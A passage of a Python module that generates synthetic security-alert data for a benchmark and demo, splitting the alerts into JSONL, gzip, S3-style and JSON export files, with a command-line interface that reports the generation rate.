    alerts = list(generate(DEMO_COUNT, DEMO_SEED, DEMO_START, days=7, hosts=DEMO_HOSTS))
    if problems := demo_coverage(alerts):
        raise RuntimeError(f"demo seed {DEMO_SEED} no longer covers the demo: {problems}")
    for generated in (out_dir / "synthetic", out_dir / "s3"):  # fully generated subtrees
        if generated.is_dir():
            shutil.rmtree(generated)
    s3 = [a for a in alerts if _day_of(a) == DEMO_S3_DAY]
    rest = [a for a in alerts if _day_of(a) != DEMO_S3_DAY]
    pretty = min(rest, key=lambda a: PRIORITIES.index(a["priority"]))
    rest.remove(pretty)
    k8s_host = next(a["hostname"] for a in rest if a["source"] == "k8s_audit")
    k8s_day = max(
        sorted({_day_of(a) for a in rest if a["hostname"] == k8s_host}),
        key=lambda d: sum(1 for a in rest if a["hostname"] == k8s_host and _day_of(a) == d),
    )
    array = [a for a in rest if a["hostname"] == k8s_host and _day_of(a) == k8s_day]
    rest = [a for a in rest if not (a["hostname"] == k8s_host and _day_of(a) == k8s_day)]
    busiest = max(
        sorted({(a["hostname"], _day_of(a)) for a in rest if a["source"] == "syscall"}),
        key=lambda hd: sum(1 for a in rest if (a["hostname"], _day_of(a)) == hd),
    )
    syn = out_dir / "synthetic"
    gz_part = [a for a in rest if (a["hostname"], _day_of(a)) == busiest]
    rest = [a for a in rest if (a["hostname"], _day_of(a)) != busiest]
    files = write_alerts(rest, syn, "jsonl")
    files += write_alerts(gz_part, syn, "jsonl.gz")
    files += write_alerts(s3, out_dir / "s3", "s3")
    pretty_path = syn / "exports" / f"incident-{_day_of(pretty)}-{_safe_part(pretty['rule'], 'x')}.json"
    pretty_path.parent.mkdir(parents=True, exist_ok=True)
    pretty_path.write_text(json.dumps(pretty, ensure_ascii=False, indent=2) + "\n", "utf-8")
    array_path = syn / "exports" / f"{k8s_host}-{k8s_day}.json"
    array_path.write_text("[\n" + ",\n".join(dumps(a) for a in array) + "\n]\n", "utf-8")
    return sorted([*files, pretty_path, array_path])


# --------------------------------------------------------------------------------------------
# CLI
# --------------------------------------------------------------------------------------------


def _parse_start(text: str) -> datetime:
    value = datetime.fromisoformat(text.replace("Z", "+00:00"))
    if value.tzinfo is None:
        raise argparse.ArgumentTypeError(f"start time needs a timezone (e.g. a trailing Z): {text}")
    return value.astimezone(UTC)


def main(argv: list[str] | None = None) -> int:
    """Command line: generate alerts into a folder and report the rate."""
    parser = argparse.ArgumentParser(
        prog="python -m benchmarks.synth", description=(__doc__ or "").split("\n\n")[0]
    )
    parser.add_argument("--count", type=int, default=10_000)
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--out", type=Path, required=True)
    parser.add_argument("--start", type=_parse_start, default=DEFAULT_START)
    parser.add_argument("--days", type=int, default=7)
    parser.add_argument("--layout", choices=LAYOUTS, default="jsonl")
    parser.add_argument("--hosts", type=int, default=20)
    parser.add_argument("--demo", action="store_true", help="write the bundled demo input (ignores the rest)")
    args = parser.parse_args(argv)
    began = _time.perf_counter()
    if args.demo:
        files = write_demo(args.out)
        print(f"wrote demo input: {len(files)} files under {args.out}")
        return 0
    alerts = generate(args.count, args.seed, args.start, args.days, args.hosts)
    files = write_alerts(alerts, args.out, args.layout, args.seed)
    took = _time.perf_counter() - began
    rate = args.count / took if took > 0 else float("inf")
    print(
        f"wrote {args.count:,} alerts to {len(files):,} files under {args.out} "
        f"in {took:.2f} s ({rate:,.0f} alerts/s including writing)"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
